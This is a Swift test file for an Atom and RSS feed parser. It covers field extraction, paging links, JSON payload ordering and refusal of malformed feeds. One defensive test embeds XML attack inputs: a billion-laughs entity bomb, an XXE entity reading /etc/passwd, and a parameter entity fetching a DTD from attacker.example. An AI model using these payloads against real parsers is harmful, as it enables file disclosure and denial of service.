import Foundation
@testable import HTTPFeedSource
import SyncCore
import Testing

/// The Atom/RSS page parser: real-world-shaped documents in, items with fixed-order JSON
/// payloads and RFC 5005 links out, and every bad body refused whole with a reason.
@Suite("Atom and RSS page parsing")
struct SyndicationParserTests {
    /// Where the test pages claim to come from: the base for relative links.
    static let pageURL = URL(string: "https://example.org/feeds/2003/11/index.atom")!

    /// Parses `text` as a body fetched from `url`.
    private func parse(_ text: String, url: URL = pageURL, maxDepth: Int = 64) throws(FeedError) -> SyndicationPage {
        try SyndicationParser.parse(Data(text.utf8), url: url, maxDepth: maxDepth)
    }

    /// The message of the `.malformed` error `body` must give; records an issue if it parses.
    private func malformed(_ body: Data, maxDepth: Int = 64, maxTextBytes: Int = SyndicationParser.maxTextBytes,
                           sourceLocation: SourceLocation = #_sourceLocation) -> String {
        do {
            let page = try SyndicationParser.parse(body, url: Self.pageURL, maxDepth: maxDepth, maxTextBytes: maxTextBytes)
            Issue.record("parsed \(page.items.count) items from a bad body", sourceLocation: sourceLocation)
            return ""
        } catch {
            #expect(error.kind == .malformed, sourceLocation: sourceLocation)
            #expect(error.message.hasPrefix("malformed page: "), sourceLocation: sourceLocation)
            return error.message
        }
    }

    private func malformed(_ text: String, maxDepth: Int = 64, sourceLocation: SourceLocation = #_sourceLocation) -> String {
        malformed(Data(text.utf8), maxDepth: maxDepth, sourceLocation: sourceLocation)
    }

    /// The payload decoded by Foundation (tests only): proof it is valid JSON.
    private func object(_ item: FeedItem, sourceLocation: SourceLocation = #_sourceLocation) -> [String: Any] {
        guard let value = try? JSONSerialization.jsonObject(with: item.payload) as? [String: Any] else {
            Issue.record("payload is not a JSON object: \(String(decoding: item.payload, as: UTF8.self))", sourceLocation: sourceLocation)
            return [:]
        }
        return value
    }

    /// The payload's top-level member names in the order written, read with a small scanner
    /// that steps over string values, so the fixed order is checked on the bytes themselves.
    private func memberOrder(_ item: FeedItem) -> [String] {
        let bytes = Array(item.payload)
        var names: [String] = []
        var index = 1, depth = 1, expectingName = true
        while index < bytes.count {
            let byte = bytes[index]
            if byte == UInt8(ascii: "\"") {
                var end = index + 1
                while bytes[end] != UInt8(ascii: "\"") { end += bytes[end] == UInt8(ascii: "\\") ? 2 : 1 }
                if depth == 1, expectingName { names.append(String(decoding: bytes[(index + 1)..<end], as: UTF8.self)) }
                expectingName = false
                index = end + 1
                continue
            }
            switch byte {
            case UInt8(ascii: "["), UInt8(ascii: "{"): depth += 1
            case UInt8(ascii: "]"), UInt8(ascii: "}"): depth -= 1
            case UInt8(ascii: ","): if depth == 1 { expectingName = true }
            default: break
            }
            index += 1
        }
        return names
    }

    private static let fixedOrder = ["id", "title", "link", "published", "updated", "summary", "content", "authors", "original"]

    private func link(_ relation: String, in page: SyndicationPage) -> URL? {
        LinkHeader.first(relation, in: page.links)
    }

    // MARK: Documents

    /// RFC 4287 §1.1's extensive example, as published.
    static let rfc4287Example = """
        <?xml version="1.0" encoding="utf-8"?>
        <feed xmlns="http://www.w3.org/2005/Atom">
          <title type="text">dive into mark</title>
          <subtitle type="html">
            A &lt;em&gt;lot&lt;/em&gt; of effort
            went into making this effortless
          </subtitle>
          <updated>2005-07-31T12:29:29Z</updated>
          <id>tag:example.org,2003:3</id>
          <link rel="alternate" type="text/html"
           hreflang="en" href="http://example.org/"/>
          <link rel="self" type="application/atom+xml"
           href="http://example.org/feed.atom"/>
          <rights>Copyright (c) 2003, Mark Pilgrim</rights>
          <generator uri="http://www.example.com/" version="1.0">
            Example Toolkit
          </generator>
          <entry>
            <title>Atom draft-07 snapshot</title>
            <link rel="alternate" type="text/html"
             href="http://example.org/2005/04/02/atom"/>
            <link rel="enclosure" type="audio/mpeg" length="1337"
             href="http://example.org/audio/ph34r_my_podcast.mp3"/>
            <id>tag:example.org,2003:3.2397</id>
            <updated>2005-07-31T12:29:29Z</updated>
            <published>2003-12-13T08:29:29-04:00</published>
            <author>
              <name>Mark Pilgrim</name>
              <uri>http://example.org/</uri>
              <email>f8dy@example.com</email>
            </author>
            <contributor>
              <name>Sam Ruby</name>
            </contributor>
            <contributor>
              <name>Joe Gregorio</name>
            </contributor>
            <content type="xhtml" xml:lang="en"
             xml:base="http://diveintomark.org/">
              <div xmlns="http://www.w3.org/1999/xhtml">
                <p><i>[Update: The Atom draft is finished.]</i></p>
              </div>
            </content>
          </entry>
        </feed>
        """

    /// An RFC 5005 §4 archived feed document, with relative archive links and a second entry
    /// whose link is relative to an `xml:base`.
    static let archivedFeed = """
        <?xml version="1.0" encoding="utf-8"?>
        <feed xmlns="http://www.w3.org/2005/Atom"
          xmlns:fh="http://purl.org/syndication/history/1.0">
          <title>Example Feed</title>
          <link rel="current" href="http://example.org/index.atom"/>
          <link rel="self" href="index.atom"/>
          <fh:archive/>
          <link rel="prev-archive" href="../10/index.atom"/>
          <link rel="http://www.iana.org/assignments/relation/next-archive" href="/feeds/2003/12/index.atom"/>
          <link rel="NEXT" xml:base="https://mirror.example.net/base/" href="page?after=42"/>
          <updated>2003-11-24T12:00:00Z</updated>
          <author><name>John Doe</name></author>
          <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
          <entry>
            <title>Atom-Powered Robots Run Amok</title>
            <link href="http://example.org/2003/12/13/atom03"/>
            <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
            <updated>2003-11-24T18:30:02Z</updated>
            <summary>Some text.</summary>
          </entry>
          <entry xml:base="https://example.com/posts/">
            <title>Second</title>
            <link rel="edit" href="edit/2"/>
            <link rel="alternate" href="2.html"/>
            <id>urn:uuid:2</id>
            <updated>2003-11-23T10:00:00Z</updated>
          </entry>
        </feed>
        """

    /// RSS 2.0 in the shape feeds ship today: Atom paging links, content:encoded, dc:creator,
    /// an item without a guid (its link is its id), a comment with markup in it.
    static let rssFeed = """
        <?xml version="1.0" encoding="UTF-8"?>
        <rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"
             xmlns:content="http://purl.org/rss/1.0/modules/content/"
             xmlns:dc="http://purl.org/dc/elements/1.1/">
          <channel>
            <title>Liftoff News</title>
            <link>http://liftoff.msfc.nasa.gov/</link>
            <description>Liftoff to Space Exploration.</description>
            <atom:link href="/rss?page=1" rel="self" type="application/rss+xml"/>
            <atom:link href="/rss?page=2" rel="next"/>
            <item>
              <title>Star City</title>
              <link>http://liftoff.msfc.nasa.gov/news/2003/news-starcity.asp</link>
              <description>How do Americans get ready to work with Russians aboard the International Space Station? They take a crash course in culture, language and protocol at Russia's &lt;a href="http://howe.iki.rssi.ru/GCTC/gctc_e.htm"&gt;Star City&lt;/a&gt;.</description>
              <pubDate>Tue, 03 Jun 2003 09:39:21 GMT</pubDate>
              <guid isPermaLink="true">http://liftoff.msfc.nasa.gov/2003/06/03.html#item573</guid>
              <dc:creator>Jane Doe</dc:creator>
              <content:encoded><![CDATA[<p>Full <b>text</b> & more</p>]]></content:encoded>
            </item>
            <item>
              <!-- an old <item> kept for reference: </item> -->
              <description>Sky watchers in Europe, Asia, and parts of Alaska and Canada will experience a partial eclipse of the Sun.</description>
              <link>http://liftoff.msfc.nasa.gov/news/2003/news-VASIMR.asp</link>
              <author>expertise@example.com (Ex Pert)</author>
              <dc:creator>Second Author</dc:creator>
            </item>
          </channel>
        </rss>
        """

    // MARK: Atom

    @Test("the RFC 4287 example feed: fields, version, feed links")
    func rfc4287() throws {
        let page = try parse(Self.rfc4287Example, url: URL(string: "http://example.org/feed.atom")!)
        #expect(page.format == .atom)
        #expect(page.items.map(\.id) == ["tag:example.org,2003:3.2397"])
        #expect(page.items.map(\.version) == ["2005-07-31T12:29:29Z"])
        let entry = object(page.items[0])
        #expect(entry["title"] as? String == "Atom draft-07 snapshot")
        #expect(entry["link"] as? String == "http://example.org/2005/04/02/atom")
        #expect(entry["published"] as? String == "2003-12-13T08:29:29-04:00")
        #expect(entry["updated"] as? String == "2005-07-31T12:29:29Z")
        #expect(entry["content"] as? String == "[Update: The Atom draft is finished.]")
        #expect(entry["authors"] as? [String] == ["Mark Pilgrim"])
        #expect(entry["summary"] == nil)
        #expect(memberOrder(page.items[0]) == ["id", "title", "link", "published", "updated", "content", "authors", "original"])
        #expect(page.links.map(\.relations) == [["alternate"], ["self"]])
        #expect(page.links[0].target.absoluteString == "http://example.org/")
        #expect(page.links[0].parameters["hreflang"] == "en")
        #expect(page.links[0].parameters["type"] == "text/html")
        #expect(link("self", in: page)?.absoluteString == "http://example.org/feed.atom")
    }

    @Test("RFC 5005 archive links: relative targets, xml:base, IANA IRIs and case folded")
    func archivedFeed() throws {
        let page = try parse(Self.archivedFeed)
        #expect(page.items.map(\.id) == ["urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a", "urn:uuid:2"])
        #expect(page.items.map(\.version) == ["2003-11-24T18:30:02Z", "2003-11-23T10:00:00Z"])
        #expect(link("current", in: page)?.absoluteString == "http://example.org/index.atom")
        #expect(link("self", in: page)?.absoluteString == "https://example.org/feeds/2003/11/index.atom")
        #expect(link("prev-archive", in: page)?.absoluteString == "https://example.org/feeds/2003/10/index.atom")
        #expect(link("next-archive", in: page)?.absoluteString == "https://example.org/feeds/2003/12/index.atom")
        #expect(link("next", in: page)?.absoluteString == "https://mirror.example.net/base/page?after=42")
        // Entry links are not the document's.
        #expect(page.links.count == 5)
        let second = object(page.items[1])
        #expect(second["link"] as? String == "https://example.com/posts/2.html")
        #expect(object(page.items[0])["summary"] as? String == "Some text.")
    }

    @Test("paging links of an RFC 5005 §3 paged feed, including a default rel and an entry-level next")
    func pagedFeedLinks() throws {
        let page = try parse("""
            <feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://api.example.org/v1/">
              <link rel="first" href="items"/>
              <link rel="previous" href="items?before=10"/>
              <link rel="next" href="items?after=20"/>
              <link rel="last" href="https://api.example.org/v1/items?last"/>
              <link href="https://example.org/"/>
              <link rel="next"/>
              <entry><id>e</id><link rel="next" href="not-the-page"/></entry>
            </feed>
            """)
        #expect(page.links.map(\.relations) == [["first"], ["previous"], ["next"], ["last"], ["alternate"]])
        #expect(LinkHeader.previous(in: page.links)?.absoluteString == "https://api.example.org/v1/items?before=10")
        #expect(link("next", in: page)?.absoluteString == "https://api.example.org/v1/items?after=20")
        #expect(link("first", in: page)?.absoluteString == "https://api.example.org/v1/items")
        #expect(object(page.items[0])["link"] == nil)
    }

    // MARK: RSS

    @Test("RSS 2.0 with atom:link paging, content:encoded, dc:creator and a guid-less item")
    func rss() throws {
        let page = try parse(Self.rssFeed, url: URL(string: "https://liftoff.example/rss")!)
        #expect(page.format == .rss)
        #expect(page.items.map(\.id) == [
            "http://liftoff.msfc.nasa.gov/2003/06/03.html#item573",
            "http://liftoff.msfc.nasa.gov/news/2003/news-VASIMR.asp",
        ])
        #expect(page.items.map(\.version) == [nil, nil])
        #expect(link("next", in: page)?.absoluteString == "https://liftoff.example/rss?page=2")
        #expect(link("self", in: page)?.absoluteString == "https://liftoff.example/rss?page=1")
        #expect(page.links.count == 2)
        let first = object(page.items[0])
        #expect(first["title"] as? String == "Star City")
        #expect(first["link"] as? String == "http://liftoff.msfc.nasa.gov/news/2003/news-starcity.asp")
        #expect(first["published"] as? String == "Tue, 03 Jun 2003 09:39:21 GMT")
        #expect((first["summary"] as? String)?.hasSuffix("Russia's <a href=\"http://howe.iki.rssi.ru/GCTC/gctc_e.htm\">Star City</a>.") == true)
        #expect(first["content"] as? String == "<p>Full <b>text</b> & more</p>")
        #expect(first["authors"] as? [String] == ["Jane Doe"])
        #expect(first["updated"] == nil)
        #expect(memberOrder(page.items[0]) == ["id", "title", "link", "published", "summary", "content", "authors", "original"])
        let second = object(page.items[1])
        #expect(second["authors"] as? [String] == ["expertise@example.com (Ex Pert)", "Second Author"])
        #expect(second["title"] == nil)
        #expect(memberOrder(page.items[1]) == ["id", "link", "summary", "authors", "original"])
    }

    // MARK: Payloads

    @Test("original is the entry's exact text: CDATA, comments, PIs, quoted '>', nested foreign entries, prefixes, CRLF")
    func originalIsExact() throws {
        let first = """
            <entry xml:lang="en" data-x='a>b'>
                <!-- a comment holding </entry> and <entry> -->
                <?render fast?>
                <id>urn:1</id>
                <title type="html"><![CDATA[<b>bold</b> </entry> ]]> &amp; more</title>
                <x:entry xmlns:x="urn:other"><x:id>nested</x:id></x:entry>
                <content>héllo 🎉</content>\r\n  </entry>
            """
        let second = #"<a:entry xmlns:a="http://www.w3.org/2005/Atom"><a:id>urn:2</a:id><a:title>two</a:title></a:entry>"#
        let third = "<entry><id>urn:3</id><summary/></entry>"
        let document = """
            \u{FEFF}<?xml version="1.0"?>
            <!-- before <feed> -->
            <feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
              \(first)
              \(second)\(third)
            </feed>
            <!-- after -->
            """
        let page = try parse(document)
        #expect(page.items.map(\.id) == ["urn:1", "urn:2", "urn:3"])
        let originals = page.items.map { object($0)["original"] as? String }
        #expect(originals == [first, second, third])
        #expect(object(page.items[0])["title"] as? String == "<b>bold</b> </entry>  & more")
        #expect(object(page.items[0])["content"] as? String == "héllo 🎉")
        #expect(object(page.items[1])["title"] as? String == "two")

        let item = "<item><guid>g</guid><description><![CDATA[ </item><item> ]]></description><title>a &lt; b</title></item>"
        let rss = try parse(#"<rss version="2.0"><channel><title>c</title>"# + item + "<item><link>l</link></item></channel></rss>")
        #expect(rss.items.map { object($0)["original"] as? String } == [item, "<item><link>l</link></item>"])
        #expect(object(rss.items[0])["summary"] as? String == "</item><item>")
    }

    @Test("payload bytes: fixed member order, JSON escapes written one way, identical for identical bodies")
    func payloadBytes() throws {
        let body = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>a\"b\\c</id><title>  tab\there\u{2028}é </title></entry></feed>"
        let page = try parse(body)
        let expected = #"{"id":"a\"b\\c","title":"tab\u0009here"# + "\u{2028}é" + #"","original":"<entry><id>a\"b\\c</id><title>  tab\u0009here"# + "\u{2028}é" + #" </title></entry>"}"#
        #expect(String(decoding: page.items[0].payload, as: UTF8.self) == expected)
        #expect(object(page.items[0])["title"] as? String == "tab\there\u{2028}é")
        #expect(try parse(body).items == page.items)
        for document in [Self.rfc4287Example, Self.archivedFeed, Self.rssFeed] {
            for item in try parse(document).items {
                let order = memberOrder(item)
                #expect(order == Self.fixedOrder.filter(order.contains))
                #expect(order.first == "id" && order.last == "original")
                #expect(object(item)["id"] as? String == item.id)
            }
        }
    }

    // MARK: Ids

    @Test("a repeated id fails the page with the JSON parser's wording")
    func duplicateIDs() {
        #expect(malformed(#"<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>x</id></entry><entry><id> x </id></entry></feed>"#)
                == #"malformed page: id "x" appears twice in one page"#)
        #expect(malformed(#"<rss version="2.0"><channel><item><guid>g</guid></item><item><link>g</link></item></channel></rss>"#)
                == #"malformed page: id "g" appears twice in one page"#)
    }

    @Test("an entry without an id fails the page, naming the entry")
    func missingIDs() {
        let atom = malformed("<feed xmlns=\"http://www.w3.org/2005/Atom\">\n<entry><id>1</id></entry>\n<entry><title>no id</title></entry></feed>")
        #expect(atom.contains("entry 2") && atom.contains("line 3") && atom.contains("no <id>"))
        #expect(malformed(#"<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>  </id></entry></feed>"#).contains("entry 1 (line 1) has an empty <id>"))
        // An id of another namespace is not Atom's id.
        #expect(malformed(#"<feed xmlns="http://www.w3.org/2005/Atom" xmlns:o="urn:o"><entry><o:id>1</o:id></entry></feed>"#).contains("no <id>"))
        #expect(malformed(#"<rss version="2.0"><channel><item><guid>1</guid></item><item><title>t</title><guid></guid></item></channel></rss>"#)
                == "malformed page: item 2 has neither guid nor link")
    }

    // MARK: Refusals

    @Test("bodies that are not well-formed XML are refused with the line and the element")
    func notWellFormed() throws {
        let mismatch = malformed("<feed xmlns=\"http://www.w3.org/2005/Atom\">\n<entry>\n<id>1</title>\n</entry></feed>")
        #expect(mismatch.contains("not well-formed XML at line 3 (in <id>)"))
        #expect(mismatch.contains("end tag that does not match"))
        let truncated = malformed(String(Self.rfc4287Example.prefix(900)))
        #expect(truncated.contains("not well-formed XML at line"))
        #expect(malformed(Self.rssFeed + "<rss/>").contains("content after the root element"))
        #expect(malformed("").contains("empty"))
        #expect(malformed(" \n ").contains("empty"))
        #expect(malformed("<a").contains("not well-formed"))
        #expect(malformed("<rss version=\"2.0\"><channel><item><title>a&nbsp;b</title></item></channel></rss>").contains("undeclared entity"))
        #expect(malformed("<rss version=\"2.0\"><channel><title>AT&T</title></channel></rss>").contains("not well-formed XML at line 1"))
        #expect(malformed(#"<feed xmlns="http://www.w3.org/2005/Atom"><x:entry/></feed>"#).contains("prefix with no namespace"))
        #expect(malformed(Data("<rss version=\"2.0\"><channel><title>\u{00}".utf8) + Data([0xFF, 0xFE]) + Data("</title></channel></rss>".utf8))
                .contains("UTF-8"))
        #expect(malformed(Data([0xFF, 0xFE, 0x3C, 0x00])).contains("UTF-16"))
        #expect(malformed("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss version=\"2.0\"><channel><title>é</title></channel></rss>")
                .contains("encoded in ISO-8859-1"))
        // A declared legacy encoding is harmless while the body is ASCII.
        #expect(try parse("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss version=\"2.0\"><channel><item><guid>&#233;</guid></item></channel></rss>")
                .items.map(\.id) == ["é"])
    }

    @Test("documents that declare entities are refused before libxml2 expands anything")
    func entityDeclarations() {
        var laughs = #"<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY lol "lol">"#
        for level in 1...9 {
            laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }
        laughs += #"]><feed xmlns="http://www.w3.org/2005/Atom"><entry><id>&lol9;</id></entry></feed>"#
        let clock = ContinuousClock()
        var message = ""
        let elapsed = clock.measure { message = malformed(laughs) }
        #expect(message == "malformed page: the document declares entities, which are not read")
        #expect(elapsed < .seconds(1))

        let external = #"<?xml version="1.0"?><!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]><rss version="2.0"><channel><item><guid>&xxe;</guid></item></channel></rss>"#
        #expect(malformed(external).contains("declares entities"))
        let parameter = #"<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss version="2.0"><channel/></rss>"#
        #expect(malformed(parameter).contains("declares entities"))
        #expect(malformed(#"<!DOCTYPE rss [<!ATTLIST rss version CDATA "2.0">]><rss><channel/></rss>"#).contains("internal DTD subset"))
        // RSS 0.91's public DOCTYPE, with no internal subset, is read (and never fetched).
        let netscape = #"<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">"#
        #expect((try? parse(netscape + #"<rss version="2.0"><channel><item><guid>1</guid></item></channel></rss>"#))?.items.count == 1)
    }

    @Test("roots and entries that are not Atom 1.0 or RSS 2.0 are named in the message")
    func wrongShapes() {
        #expect(malformed("<html><body>502</body></html>").contains("<html> (an HTML page?)"))
        #expect(malformed(#"<feed xmlns="http://purl.org/atom/ns#" version="0.3"/>"#).contains("namespace http://purl.org/atom/ns#, not Atom 1.0's"))
        #expect(malformed("<feed><entry/></feed>").contains("<feed> has no namespace"))
        #expect(malformed(#"<entry xmlns="http://www.w3.org/2005/Atom"><id>1</id></entry>"#).contains("single Atom entry"))
        #expect(malformed(#"<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel/></rdf:RDF>"#)
                .contains("RSS 1.0 (RDF)"))
        #expect(malformed(#"<rss version="0.91"><channel/></rss>"#).contains("RSS 0.91"))
        #expect(malformed("<rss><channel/></rss>").contains("no version"))
        #expect(malformed(#"<rss version="2.0"/>"#) == "malformed page: the <rss> element has no <channel>")
        #expect(malformed(#"<rss version="2.0"><channel/><channel/></rss>"#).contains("more than one <channel>"))
        #expect(malformed(#"<rss version="2.0" xmlns:x="urn:x"><channel><x:item><guid>1</guid></x:item></channel></rss>"#)
                .contains("<x:item> at line 1 is in namespace urn:x"))
        #expect(malformed(#"<feed xmlns="http://www.w3.org/2005/Atom" xmlns:o="urn:old"><o:entry><id>1</id></o:entry></feed>"#)
                .contains("<o:entry> at line 1 is in namespace urn:old, not Atom's"))
        #expect(malformed(#"<ns:rss xmlns:ns="urn:rss" version="2.0"><channel/></ns:rss>"#).contains("RSS 2.0 elements have no namespace"))
        #expect(malformed(#"{"items":[]}"#).contains("not well-formed"))
    }

    @Test("nesting and text are bounded")
    func bounds() {
        let deep = String(repeating: "<div>", count: 70) + String(repeating: "</div>", count: 70)
        let body = #"<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><content type="xhtml">"# + deep + "</content></entry></feed>"
        #expect(malformed(body).contains("nest deeper than 64"))
        #expect((try? parse(body, maxDepth: 80))?.items.count == 1)
        let text = #"<rss version="2.0"><channel><item><guid>1</guid><description>"# + String(repeating: "x", count: 5000) + "</description></item></channel></rss>"
        #expect(malformed(Data(text.utf8), maxTextBytes: 4096).contains("more than 4096 bytes of text"))
    }

    @Test("sniffing: Atom, RSS and RDF roots after a BOM, declaration, comments and a DOCTYPE; nothing else")
    func sniffing() {
        #expect(SyndicationParser.looksLikeSyndication(Data(Self.rfc4287Example.utf8)))
        #expect(SyndicationParser.looksLikeSyndication(Data(Self.rssFeed.utf8)))
        #expect(SyndicationParser.looksLikeSyndication(Data("\u{FEFF}\n<!-- x > y --><?pi?><!DOCTYPE rss SYSTEM \"a>b\">\n<rss version=\"2.0\">".utf8)))
        #expect(SyndicationParser.looksLikeSyndication(Data(#"<a:feed xmlns:a="http://www.w3.org/2005/Atom">"#.utf8)))
        #expect(SyndicationParser.looksLikeSyndication(Data(#"<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">"#.utf8)))
        #expect(!SyndicationParser.looksLikeSyndication(Data(#"[{"id":"1"}]"#.utf8)))
        #expect(!SyndicationParser.looksLikeSyndication(Data("<!DOCTYPE html><html><body>".utf8)))
        #expect(!SyndicationParser.looksLikeSyndication(Data("<feed><entry/></feed>".utf8)))
        #expect(!SyndicationParser.looksLikeSyndication(Data()))
        #expect(!SyndicationParser.looksLikeSyndication(Data("<!-- unterminated".utf8)))
    }

    @Test("parses run side by side on many threads")
    func concurrent() async throws {
        let counts = try await withThrowingTaskGroup(of: Int.self) { group in
            for index in 0..<16 {
                group.addTask {
                    let document = index.isMultiple(of: 2) ? Self.rssFeed : Self.archivedFeed
                    var total = 0
                    for _ in 0..<50 { total += try SyndicationParser.parse(Data(document.utf8), url: Self.pageURL).items.count }
                    return total
                }
            }
            return try await group.reduce(into: []) { $0.append($1) }
        }
        #expect(counts.count == 16 && counts.allSatisfy { $0 == 100 })
    }

    // MARK: Fuzzing

    /// Bytes that matter to XML's structure, and letters that change names.
    private static let markup = Array("<>/&;\"'=!?[]-:#x ".utf8)

    @Test("random truncations, byte flips and insertions give the whole page or .malformed, never part of one",
          arguments: [UInt64(1), 2, 3])
    func fuzz(seed: UInt64) throws {
        var random = SeededRandomSource(seed: seed)
        for document in [Self.archivedFeed, Self.rssFeed] {
            let original = Array(document.utf8)
            let expected = try parse(document).items.count
            var parsed = 0
            for round in 0..<300 {
                var bytes = original
                let at = Int.random(in: 0..<bytes.count, using: &random)
                switch round % 5 {
                case 0: bytes.removeSubrange(at...)
                // Any bits, mostly giving bytes that are not UTF-8; then the low seven, keeping ASCII.
                case 1: bytes[at] ^= UInt8.random(in: 1...255, using: &random)
                case 2: bytes[at] = bytes[at] < 0x80 ? bytes[at] ^ UInt8.random(in: 1...0x7F, using: &random) : 0x3C
                case 3: bytes.insert(UInt8.random(in: 0...255, using: &random), at: at)
                // Markup characters and letters, which keep the body UTF-8 and hit the structure.
                default: bytes.insert(Self.markup.randomElement(using: &random)!, at: at)
                }
                do {
                    let page = try SyndicationParser.parse(Data(bytes), url: Self.pageURL)
                    parsed += 1
                    #expect(page.items.count == expected, "seed \(seed) round \(round)")
                    for item in page.items {
                        let original = object(item)["original"] as? String
                        #expect(original.map { String(decoding: bytes, as: UTF8.self).contains($0) } == true)
                    }
                } catch {
                    #expect(error.kind == .malformed, "seed \(seed) round \(round): \(error.message)")
                }
            }
            // Flips and insertions in text leave many bodies well-formed: both outcomes are exercised.
            #expect(parsed > 0)
        }
    }
}
